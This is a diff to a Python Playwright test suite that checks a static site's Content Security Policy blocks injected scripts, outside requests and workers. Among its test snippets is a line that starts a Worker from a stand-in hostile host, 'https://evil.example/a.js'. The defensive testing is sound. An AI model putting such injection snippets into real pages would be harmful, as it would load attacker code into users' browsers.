@@ -8,7 +8,7 @@ from __future__ import annotations
 
 import re
 from collections import Counter
-from dataclasses import fields, is_dataclass, replace
+from dataclasses import dataclass, field, fields, is_dataclass, replace
 from itertools import cycle
 from typing import TYPE_CHECKING, Any
 
@@ -181,31 +181,46 @@ ELSEWHERE = re.compile(r"^(?!http://127\.0\.0\.1:|data:|blob:)")
 PROBE = "window.pwned = () => console.error('pwned');"
 
 
-@pytest.fixture(params=[False, True], ids=["with the policy", "without the policy"])
-def opened(browser: Browser, root: Path, request: pytest.FixtureRequest) -> Iterator[tuple[Page, str, list[str]]]:
+@pytest.fixture(scope="module")
+def home(browser: Browser, root: Path) -> Iterator[str]:  # noqa: ARG001 - without a browser nothing is served
+    """The address of the site."""
+    with browsers.served(root / "build" / "site") as address:
+        yield address
+
+
+@pytest.fixture(scope="module", params=[False, True], ids=["with the policy", "without the policy"])
+def tab(browser: Browser, home: str, request: pytest.FixtureRequest) -> Iterator[tuple[Page, str, list[str]]]:
     """A page, the address of the site, and what went wrong so far: scripts that ran, requests that would have left."""
     wrong: list[str] = []
-    with browsers.served(root / "build" / "site") as home:
-        context = browser.new_context(bypass_csp=request.param, reduced_motion="reduce")
-        context.add_init_script(PROBE)
+    context = browser.new_context(bypass_csp=request.param, reduced_motion="reduce")
+    context.add_init_script(PROBE)
 
-        def ask(route: Route) -> None:
-            wrong.append(f"asked {route.request.url}")
-            route.abort()
+    def ask(route: Route) -> None:
+        wrong.append(f"asked {route.request.url}")
+        route.abort()
 
-        def talk(dialog: Dialog) -> None:
-            wrong.append(f"dialog {dialog.message}")
-            dialog.dismiss()
+    def talk(dialog: Dialog) -> None:
+        wrong.append(f"dialog {dialog.message}")
+        dialog.dismiss()
 
-        context.route(ELSEWHERE, ask)  # the site's own requests are not held up
-        page = context.new_page()
-        page.set_default_timeout(20_000)
-        page.on("dialog", talk)
-        page.on("console", lambda said: wrong.append(f"said {said.text}") if said.type == "error" else None)
-        page.on("pageerror", lambda error: wrong.append(f"error {error}"))
-        page.on("popup", lambda popup: wrong.append(f"popup {popup.url}"))
-        yield page, home, wrong
-        context.close()
+    context.route(ELSEWHERE, ask)  # the site's own requests are not held up
+    page = context.new_page()
+    page.set_default_timeout(20_000)
+    page.on("dialog", talk)
+    page.on("console", lambda said: wrong.append(f"said {said.text}") if said.type == "error" else None)
+    page.on("pageerror", lambda error: wrong.append(f"error {error}"))
+    page.on("popup", lambda popup: wrong.append(f"popup {popup.url}"))
+    yield page, home, wrong
+    context.close()
+
+
+@pytest.fixture
+def opened(tab: tuple[Page, str, list[str]]) -> tuple[Page, str, list[str]]:
+    """The same for the next test, which is told of nothing that went wrong before it."""
+    page, _, wrong = tab
+    page.goto("about:blank")
+    wrong.clear()
+    return tab
 
 
 def every_page(site: Path) -> list[str]:
@@ -309,12 +324,8 @@ BLOCKED = {
     "worker-src": "try { new Worker('https://evil.example/a.js'); } catch { /* of another origin, whatever the policy */ } "
     "new Worker('data:text/javascript,1').onerror = () => null;",
 }
-_ASKED = """(code) => new Promise((done) => {
-  const met = [];
-  document.addEventListener("securitypolicyviolation", (one) => met.push(one.effectiveDirective));
-  (0, Function)(code);
-  setTimeout(() => done(met), 400);
-})"""
+_NOTED = """window.met = [];
+document.addEventListener("securitypolicyviolation", (one) => window.met.push(one.effectiveDirective));"""
 
 
 @pytest.mark.parametrize("path", ["../stray.md", "cases/../../stray.md", "/stray.md"])
@@ -326,27 +337,45 @@ def test_a_page_that_would_lie_elsewhere_is_written_nowhere(tmp_path: Path, path
     assert list(tmp_path.rglob("*.md")) == []
 
 
+@dataclass
+class Try:
+    """A page that tries what the policy stops: which requests left, by which parts it was stopped, and what came of it."""
+
+    page: Page
+    left: list[str] = field(default_factory=list)
+    stopped: list[str] = field(default_factory=list)
+
+
+@pytest.fixture(scope="module")
+def tries(browser: Browser, home: str) -> Iterator[dict[str, Try]]:
+    """What is blocked, each tried on a page of its own; all are given the same time for it."""
+    context = browser.new_context()
+    context.add_init_script("window.pwned = () => { window.ran = true; };")
+
+    def ask(route: Route) -> None:
+        next(one for one in made.values() if one.page == route.request.frame.page).left.append(route.request.url)
+        route.abort()
+
+    context.route(ELSEWHERE, ask)  # what the policy stops never comes to be routed
+    made = {part: Try(context.new_page()) for part in BLOCKED}
+    for part, one in made.items():
+        one.page.goto(f"{home}cite/")
+        one.page.evaluate(f"() => {{ {_NOTED} {BLOCKED[part]} }}")
+    context.pages[-1].wait_for_timeout(400)
+    for one in made.values():
+        one.stopped.extend(one.page.evaluate("window.met"))
+    yield made
+    context.close()
+
+
 @pytest.mark.browser
 @pytest.mark.parametrize("part", BLOCKED)
-def test_the_policy_stops_it(browser: Browser, root: Path, part: str) -> None:
-    left: list[str] = []
-    with browsers.served(root / "build" / "site") as home:
-        context = browser.new_context()
-        page = context.new_page()
-        page.add_init_script("window.pwned = () => { window.ran = true; };")
-
-        def ask(route: Route) -> None:
-            left.append(route.request.url)
-            route.abort()
-
-        context.route(ELSEWHERE, ask)  # what the policy stops never comes to be routed
-        page.goto(f"{home}cite/")
-        met = page.evaluate(_ASKED.replace("(0, Function)(code)", BLOCKED[part]), "")
-        assert part in met
-        assert left == []
-        assert not page.evaluate("window.ran || false")
-        assert page.url == f"{home}cite/"
-        context.close()
+def test_the_policy_stops_it(tries: dict[str, Try], home: str, part: str) -> None:
+    tried = tries[part]
+    assert part in tried.stopped
+    assert tried.left == []
+    assert not tried.page.evaluate("window.ran || false")
+    assert tried.page.url == f"{home}cite/"
 
 
 def test_the_policy_names_what_it_allows_and_nothing_else() -> None:
